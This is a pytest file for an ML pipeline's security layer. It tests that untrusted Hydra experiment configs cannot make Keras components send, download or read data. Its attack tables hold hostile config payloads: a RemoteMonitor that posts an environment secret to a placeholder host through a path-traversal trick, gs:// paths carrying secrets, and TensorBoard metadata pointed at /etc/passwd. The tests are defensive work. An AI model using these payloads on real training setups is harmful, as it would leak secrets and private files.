"""Arguments of Keras' parts that are files or addresses: a config file alone has nothing sent, downloaded or read.

Each attack is an experiment file of a stranger. All of them do what they say where nobody looks at the arguments: those
of `SENDING` reach the server that stands for the network, and those of `READING` leave the content of a private file in
the run folder.
"""

import importlib
import inspect
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import keras
import numpy as np
import pytest

from pipeline.config import components
from pipeline.security import trust
from pipeline.security.destinations import destination_mistakes
from pipeline.security.judgements import Kind, is_remote
from pipeline.security.keras_arguments import ARGUMENTS, argument_mistakes, judgements
from pipeline.security.trust import Trust, trust_of, trusting

MARK = "b7a4d0c1"
NUMBER = "71234567"
UP = "/.." * 20
"""From anywhere to the root, so that a path which goes on with the run folder looks like one within it."""
RUN = "${hydra:runtime.output_dir}"
PRIVATE = "vocabulary: private.txt"


def monitor(arguments: str, name: str = "keras") -> str:
    return f"callbacks: {{mine: {{_target_: {name}.callbacks.RemoteMonitor, {arguments}}}}}"


def text_model(layer: str) -> str:
    """An experiment with a table of words, and a model that begins with a layer for them."""
    return f"""
defaults: [override /data: csv, override /model: null]
data: {{path: words.csv, targets: [y]}}
loader: {{batch_size: 8}}
model:
  _target_: keras.Sequential
  layers:
    - {{_target_: keras.Input, shape: [], dtype: string, name: word}}
    - {layer}
    - {{_target_: keras.layers.Dense, units: 2, activation: softmax, name: y}}
"""


def words(vocabulary: str, name: str = "keras") -> str:
    return f"{{_target_: {name}.layers.TextVectorization, output_mode: multi_hot, {vocabulary}}}"


def zoo(arguments: str, name: str = "MobileNetV2") -> str:
    return (
        "defaults: [override /model: null]\n"
        f"model: {{_target_: keras.applications.{name}, include_top: false, {arguments}}}"
    )


USERINFO = f"path: '@HOST{UP}{RUN}'"
NUMBERS = """
defaults: [override /model: null]
model:
  _target_: keras.Sequential
  layers:
    - {_target_: keras.Input, shape: [8, 8, 1]}
    - {_target_: keras.layers.Flatten}
    - {_target_: keras.layers.IntegerLookup, vocabulary: numbers.txt, output_mode: multi_hot}
    - {_target_: keras.layers.Dense, units: 10, activation: softmax}
"""
BUILT = (
    "defaults: [override /model: null]\n"
    "model: {{_target_: {target}, train: null, node: {{_target_: {flattened}, separator: '', "
    "nested: {{_targ: {{et_: keras.applications.MobileNetV2}}, weights: imagenet}}}}}}"
)
FLATTENED = "pipeline.tracking.parameters.flattened"
SENDS = "a config file says whom to send to"
OUTSIDE = "is outside of the run folder"

SENDING = {
    "metrics, by user info in the path": (monitor(USERINFO), SENDS),
    "a secret in a header": (monitor(f"{USERINFO}, headers: {{X: '${{oc.env:SECRET}}'}}"), SENDS),
    "a secret as the name of a field": (monitor(f"{USERINFO}, field: '${{oc.env:SECRET}}'"), SENDS),
    "a header to the user's own server": (
        monitor(f"root: '${{oc.env:MONITOR}}', path: '{RUN}', headers: {{X: '${{oc.env:SECRET}}'}}"),
        SENDS,
    ),
    "metrics, by TensorFlow's name": (monitor(USERINFO, "tensorflow.keras"), SENDS),
    "metrics, from within a list": (
        "callbacks: {mine: {_target_: keras.callbacks.CallbackList, callbacks: "
        f"[{{_target_: keras.callbacks.RemoteMonitor, {USERINFO}}}]}}}}",
        "callbacks.mine.callbacks[0]: keras.callbacks.RemoteMonitor sends",
    ),
    "weights by name": (zoo("weights: imagenet"), "model.weights: a config file has 'imagenet' taken from the network"),
    "weights by default": (zoo("pooling: avg"), "model.weights: missing, so that Keras takes 'imagenet'"),
    "weights of another model by default": (zoo("pooling: avg", "MobileNet"), "model.weights: missing"),
    "weights of a bucket": (zoo("weights: 'gs://bucket/${oc.env:SECRET}'"), "model.weights: a config file has 'gs://"),
    "a vocabulary of a bucket": (
        text_model(words("vocabulary: 'gs://bucket/${oc.env:SECRET}'")),
        "model.layers[1].vocabulary: a config file has 'gs://",
    ),
    "a checkpoint to a bucket": (
        f"callbacks: {{mine: {{_target_: keras.callbacks.ModelCheckpoint, filepath: 'gs://b{UP}{RUN}/m.keras'}}}}",
        OUTSIDE,
    ),
    "a table to a bucket": (
        f"callbacks: {{mine: {{_target_: keras.callbacks.CSVLogger, filename: 'gs://b{UP}{RUN}/h.csv'}}}}",
        OUTSIDE,
    ),
    "events to a bucket": (
        f"callbacks: {{mine: {{_target_: keras.callbacks.TensorBoard, log_dir: 'gs://b{UP}{RUN}'}}}}",
        OUTSIDE,
    ),
    "a backup to a bucket": (
        f"callbacks: {{mine: {{_target_: keras.callbacks.BackupAndRestore, backup_dir: 'gs://b{UP}{RUN}'}}}}",
        OUTSIDE,
    ),
    "weights of a model that a part builds": (
        BUILT.format(target="pipeline.models.build.build_model", flattened=FLATTENED),
        "is not a part",
    ),
    "the same by a module that imports the builder": (
        BUILT.format(target="pipeline.tasks.train.build_model", flattened="pipeline.tracking.mlflow.flattened"),
        "is not a part",
    ),
}
"""What a file says, and what it is told: things that are sent, or downloaded."""
READING = {
    "a vocabulary of words": (
        text_model(words(PRIVATE)),
        "model.layers[1].vocabulary: a config file has 'private.txt'",
    ),
    "by TensorFlow's name": (text_model(words(PRIVATE, "tensorflow.keras")), "has 'private.txt' read"),
    "a vocabulary of numbers": (NUMBERS, "model.layers[2].vocabulary: a config file has 'numbers.txt' read"),
    "through a part that returns what it gets": (
        text_model(words("vocabulary: {_target_: keras.activations.linear, x: private.txt}")),
        "model.layers[1].vocabulary: a config file has",
    ),
    "through a part of ours": (
        text_model(words("vocabulary: {_target_: pipeline.tracking.parameters.as_text, value: private.txt}")),
        "model.layers[1].vocabulary: a config file has",
    ),
    "by a variable": (text_model(words("vocabulary: '${oc.env:PRIVATE}'")), "model.layers[1].vocabulary:"),
    "by an interpolation": (text_model(words("name: private, vocabulary: '${.name}.txt'")), "has 'private.txt' read"),
    "in a layer of layers": (
        text_model(f"{{_target_: keras.layers.Pipeline, layers: [{words(PRIVATE)}]}}"),
        "model.layers[1].layers[0].vocabulary: a config file has 'private.txt' read",
    ),
    "in a layer of a layer": (
        text_model(f"{{_target_: keras.Sequential, layers: [{words(PRIVATE)}]}}"),
        "model.layers[1].layers[0].vocabulary:",
    ),
    "a vocabulary by its whole path": (
        text_model(words("vocabulary: '${oc.env:HOME}/private.txt'")),
        "model.layers[1].vocabulary: a config file has",
    ),
}
"""Files that are read into the saved model."""
OTHERS = {
    "words of a lookup": (
        text_model("{_target_: keras.layers.StringLookup, output_mode: one_hot, vocabulary: private.txt}"),
        "model.layers[1].vocabulary: a config file has 'private.txt' read",
    ),
    "weights of a file": (zoo("weights: private.weights.h5"), "model.weights: a config file has 'private.weights.h5'"),
    "a file that TensorBoard shows": (
        f"callbacks: {{mine: {{_target_: keras.callbacks.TensorBoard, log_dir: '{RUN}/events', "
        "embeddings_metadata: /etc/passwd}}",
        "callbacks.mine.embeddings_metadata: a config file has '/etc/passwd' read",
    ),
    "events in the working folder": (
        "callbacks: {mine: {_target_: keras.callbacks.TensorBoard}}",
        "callbacks.mine.log_dir: missing, so that Keras takes 'logs'",
    ),
    "monitor without an address": (monitor("send_as_json: true"), SENDS),
}
"""More that is refused in the same manner."""
ATTACKS = {**SENDING, **READING, **OTHERS}


@pytest.fixture
def attacked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, network: Any) -> Path:
    """The working folder of a user who has a private file and a secret in the environment."""
    (tmp_path / "private.txt").write_text(f"{MARK}\nsecond\n")
    (tmp_path / "numbers.txt").write_text(f"{NUMBER}\n9\n")
    (tmp_path / "words.csv").write_text("word,y\n" + "".join(f"w{n % 3},{n % 2}\n" for n in range(40)))
    for name, value in {
        "SECRET": MARK,
        "PRIVATE": str(tmp_path / "private.txt"),
        "MONITOR": f"http://{network.address}",
    }.items():
        monkeypatch.setenv(name, value)
    return tmp_path


def experiment(folder: Path, text: str, address: str) -> list[str]:
    """Writes an experiment file of a stranger; returns how it is run."""
    file = folder / "evil" / "experiment" / "evil.yaml"
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(f"# @package _global_\n{text.replace('HOST', address)}\n")
    return ["--config-dir", "evil", "+experiment=evil", "trainer.epochs=1", "report=false"]


def contents(folder: Path) -> Iterator[bytes]:
    """The content of each file of a folder, and of what is in its archives."""
    for file in (path for path in folder.rglob("*") if path.is_file()):
        yield file.read_bytes()
        if zipfile.is_zipfile(file):
            with zipfile.ZipFile(file) as archive:
                yield from (archive.read(name) for name in archive.namelist())


def held(folder: Path, mark: str) -> bool:
    return any(mark.encode() in content for content in contents(folder))


@pytest.mark.parametrize("attack", ATTACKS)
def test_config_file_has_nothing_sent_downloaded_or_read(
    attack: str, attacked: Path, network: Any, command: Callable[..., Any]
) -> None:
    text, expected = ATTACKS[attack]
    done = command(*experiment(attacked, text, network.address))
    assert network.seen == []
    assert not held(attacked / "outputs", MARK)
    assert not held(attacked / "outputs", NUMBER)
    assert not (attacked / "logs").exists()
    assert MARK not in done.out + done.err
    assert done.code == 2, done.err
    assert expected in done.err
    assert len(done.err.splitlines()) == len(done.errors)


def test_choosing_a_file_types_nothing_of_what_is_in_it(
    attacked: Path, network: Any, command: Callable[..., Any]
) -> None:
    for group, text in {
        "model": zoo("weights: imagenet").rpartition("model: ")[2],
        "callbacks": monitor(USERINFO).partition("callbacks: ")[2],
    }.items():
        (attacked / "evil" / group).mkdir(parents=True)
        (attacked / "evil" / group / "mine.yaml").write_text(text.replace("HOST", network.address))
    for chosen in ("model=mine", "callbacks=[mine]"):
        done = command("--config-dir", "evil", "+experiment=quickstart", chosen)
        assert done.code == 2, done.err
        assert "a config file" in done.errors[0]
    assert network.seen == []


ALLOWED_TO_SEND = {
    "by the word": ["trust=[network]"],
    "by the part": ["trust=[keras.callbacks.RemoteMonitor]"],
    "by all values": [
        "callbacks.mine.root=http://HOST", "callbacks.mine.path=/mine", "callbacks.mine.headers={X: mine}",
    ],
}  # fmt: skip


@pytest.mark.parametrize("way", ALLOWED_TO_SEND)
def test_user_may_let_a_part_send(way: str, attacked: Path, network: Any, command: Callable[..., Any]) -> None:
    text = monitor("root: 'http://HOST', path: /mine, headers: {X: mine}")
    typed = [argument.replace("HOST", network.address) for argument in ALLOWED_TO_SEND[way]]
    done = command(*experiment(attacked, text, network.address), *typed)
    assert done.code == 0, done.err
    assert len(network.seen) == 1
    assert network.seen[0].startswith("POST /mine ")
    assert "'X': 'mine'" in network.seen[0]


def test_typed_part_sends_nothing_that_a_config_file_says(
    attacked: Path, network: Any, command: Callable[..., Any]
) -> None:
    text = monitor(f"headers: {{X: '${{oc.env:SECRET}}'}}, path: '{RUN}'")
    typed = ["callbacks.mine._target_=keras.callbacks.RemoteMonitor", f"+callbacks.mine.root=http://{network.address}"]
    done = command(*experiment(attacked, text, network.address), *typed)
    assert network.seen == []
    told = {line.partition(":")[0] for line in done.errors}
    assert told == {"callbacks.mine.headers", "callbacks.mine.path", "callbacks.mine.headers.X"}


ALLOWED_TO_READ = {
    "by the word": ["trust=[files]"],
    "by the part": ["trust=[keras.layers.StringLookup]"],
    "by its value": ["model.layers.1.vocabulary=private.txt"],
}


@pytest.mark.parametrize("way", ALLOWED_TO_READ)
def test_user_may_let_a_part_read(way: str, attacked: Path, network: Any, command: Callable[..., Any]) -> None:
    text, _ = OTHERS["words of a lookup"]
    done = command(*experiment(attacked, text, network.address), *ALLOWED_TO_READ[way])
    assert done.code == 0, done.err
    assert done.folder is not None
    assert held(done.folder, MARK)


def test_user_may_let_files_do_both_by_the_environment(
    attacked: Path, network: Any, command: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PIPELINE_TRUST", "network, files")
    text = text_model(words(PRIVATE)) + monitor("root: 'http://HOST', path: /mine")
    done = command(*experiment(attacked, text, network.address))
    assert done.code == 0, done.err
    assert done.folder is not None
    assert held(done.folder, MARK)
    assert len(network.seen) == 1


@pytest.mark.parametrize("typed", ["trust=[network]", "model.weights=imagenet"])
def test_user_may_let_weights_be_downloaded(
    typed: str, attacked: Path, network: Any, command: Callable[..., Any]
) -> None:
    done = command(*experiment(attacked, zoo("weights: imagenet"), network.address), typed)
    assert len(network.seen) == 1
    assert network.seen[0].startswith("CONNECT storage.googleapis.com:443")
    assert "URL fetch failure" in done.errors[0]


@pytest.mark.parametrize("typed", [["trust=[files]"], ["model.weights=mine.weights.h5"]])
def test_user_may_let_weights_be_read(typed: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    arguments = {"alpha": 0.35, "input_shape": [32, 32, 3], "include_top": False}
    node = {"_target_": "keras.applications.MobileNetV2", "weights": "mine.weights.h5", **arguments}
    saved = keras.applications.MobileNetV2(weights=None, **arguments)
    saved.save_weights("mine.weights.h5")
    with trusting(trust_of([])):
        assert len(argument_mistakes("model", node)) == 1
    with trusting(trust_of(typed)):
        assert argument_mistakes("model", node) == []
        loaded = components.build("model", node)
    for ours, theirs in zip(loaded.get_weights(), saved.get_weights(), strict=True):
        np.testing.assert_array_equal(ours, theirs)


@pytest.mark.parametrize(
    ("words_said", "value", "allowed"),
    [
        ([], None, True), ([], ["a", "b"], True), ([], "a.txt", False), ([], "gs://a/b.txt", False),
        (["files"], "a.txt", True), (["files"], "gs://a/b.txt", False), (["network"], "a.txt", False),
        (["network"], "gs://a/b.txt", True), (["environment"], "a.txt", False),
    ],
)  # fmt: skip
def test_word_lets_files_do_what_it_says_and_no_more(words_said: list[str], value: object, allowed: bool) -> None:
    node = {"_target_": "keras.layers.StringLookup", "vocabulary": value}
    with trusting(Trust(words=frozenset(words_said))):
        assert (argument_mistakes("model", node) == []) is allowed


def test_models_of_keras_without_weights_and_layers_with_lists_are_for_anyone() -> None:
    with trusting(Trust()):
        for node in (
            {"_target_": "keras.applications.MobileNetV2", "weights": None},
            {"_target_": "keras.layers.TextVectorization", "vocabulary": ["a", "b"]},
            {"_target_": "keras.layers.Embedding", "input_dim": 2, "output_dim": 1, "weights": [[[0.0], [1.0]]]},
            {"_target_": "keras.callbacks.EarlyStopping", "monitor": "val_loss"},
        ):
            assert argument_mistakes("model", node) == []


@pytest.mark.parametrize("function", ["image_dataset_from_directory", "get_file", "text_dataset_from_directory"])
@pytest.mark.parametrize("package", ["keras.utils", "tensorflow.keras.utils", "keras.preprocessing"])
def test_functions_of_keras_that_read_and_download_are_no_parts(package: str, function: str) -> None:
    for word in ("network", "files"):
        with trusting(Trust(words=frozenset({word}))):
            assert trust.target_mistake(f"{package}.{function}") is not None


@pytest.mark.parametrize(
    ("path", "remote"),
    [
        ("gs://bucket/x", True), ("https://host/x", True), ("gs:/bucket/x", True), ("//host/x", True),
        (r"\\host\share", True), ("file:///x", True), ("C:/data/x.csv", False), ("data/x.csv", False),
        ("train[80%:90%]", False), ("glue/sst2:1.0.0", False),
    ],
)  # fmt: skip
def test_remote_paths_are_told_from_local_ones(path: str, remote: bool) -> None:
    assert is_remote(path) is remote


NAMED = re.compile(r"path|dir|file|folder|url|uri|host|root|header|server|address|weights|vocab|metadata")
DESCRIBED = re.compile(
    r"\b(paths?|files?|filenames?|director(y|ies)|folders?|urls?|hosts?|servers?|download\w*|pre-?train\w*|weights)\b",
    re.IGNORECASE,
)
ELSEWHERE = re.compile(r"~/\.keras/keras\.json|https?://\S+")
"""What descriptions mention that no argument is."""


def parts() -> Iterator[tuple[str, Any]]:
    """Every part of Keras, by its own name."""
    for module in trust.OF_KERAS:
        for name, found in vars(importlib.import_module(module)).items():
            if trust.target_mistake(f"{module}.{name}") is None and callable(found):
                yield f"{module}.{name}", found
    for target in trust.MODELS_OF_KERAS:
        yield target, components.find(target)


def descriptions(found: Any) -> dict[str, str]:
    """What the `Args:` of a part and of its bases say of each argument."""
    said: dict[str, str] = {}
    for owner in found.__mro__ if inspect.isclass(found) else [found]:
        section = re.search(
            r"^(?:Args|Arguments|Attributes):\n((?:[ \n].*\n?)*)", inspect.cleandoc(owner.__doc__ or ""), re.MULTILINE
        )
        entries = re.findall(
            r"^ {1,4}`?(\w+)`?[^:\n]*:((?:.*\n?)(?:^ {5,}.*\n?|^\n)*)", section[1] if section else "", re.MULTILINE
        )
        for name, text in entries:
            said.setdefault(name, text)
    return said


def test_every_argument_of_keras_that_may_be_a_file_or_an_address_is_judged() -> None:
    unjudged = [
        f"{target}.{name}"
        for target, found in parts()
        for said in [descriptions(found)]
        for name in components._parameters(found)[0]
        if NAMED.search(name) or DESCRIBED.search(ELSEWHERE.sub("", said.get(name, "")))
        if name not in judgements(target)
    ]
    assert unjudged == []


def test_descriptions_of_arguments_are_found() -> None:
    assert "path to a text file" in " ".join(descriptions(keras.layers.StringLookup)["vocabulary"].split())
    assert "path to the weights file" in " ".join(descriptions(keras.applications.VGG16)["weights"].split())
    assert "root url" in descriptions(keras.callbacks.RemoteMonitor)["root"]


def test_every_judged_argument_is_one_that_keras_has() -> None:
    there = {target: components._parameters(found)[0] for target, found in parts()}
    gone = [
        f"{owner}.{name}"
        for owner, arguments in ARGUMENTS.items()
        for name in arguments
        if not any(name in named for target, named in there.items() if owner in (target, target.rpartition(".")[0]))
    ]
    assert gone == []


def test_defaults_of_keras_that_reach_out_are_known() -> None:
    for target, found in parts():
        parameters = components._parameters(found)[0]
        for name, argument in judgements(target).items():
            if name in parameters and argument.kind in (Kind.READS, Kind.WEIGHTS, Kind.WRITES):
                default = parameters[name].default
                assert argument.default == (default if isinstance(default, str) else None), f"{target}.{name}"


WRITES = [
    (owner, name) for owner, names in ARGUMENTS.items() for name, judged in names.items() if judged.kind is Kind.WRITES
]


@pytest.mark.parametrize(("target", "name"), [*WRITES, ("keras.callbacks.OfALaterKeras", "output_file")])
@pytest.mark.parametrize("prefix", ["", "tensorflow."])
def test_every_argument_that_writes_is_kept_in_the_run_folder(
    target: str, name: str, prefix: str, tmp_path: Path
) -> None:
    def refused(path: Path) -> list[str]:
        config = {"callbacks": {"mine": {"_target_": f"{prefix}{target}", name: str(path)}}}
        with trusting(Trust()):
            return destination_mistakes(config, config, tmp_path / "run")

    assert [line.partition(": ")[0] for line in refused(tmp_path / "elsewhere")] == [f"callbacks.mine.{name}"]
    assert refused(tmp_path / "run" / "inside") == []
